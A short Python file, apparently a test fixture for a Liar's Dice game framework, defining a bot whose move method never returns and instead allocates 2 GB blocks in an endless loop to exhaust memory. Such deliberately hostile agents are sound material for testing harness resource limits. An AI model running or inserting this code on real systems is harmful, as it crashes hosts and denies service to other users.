"""Wants all the memory there is."""

from liars_dice.agents import RandomAgent


class Bot(RandomAgent):
    def choose_action(self, view):
        hoard = []
        while True:
            hoard.append(bytearray(2_000_000_000))
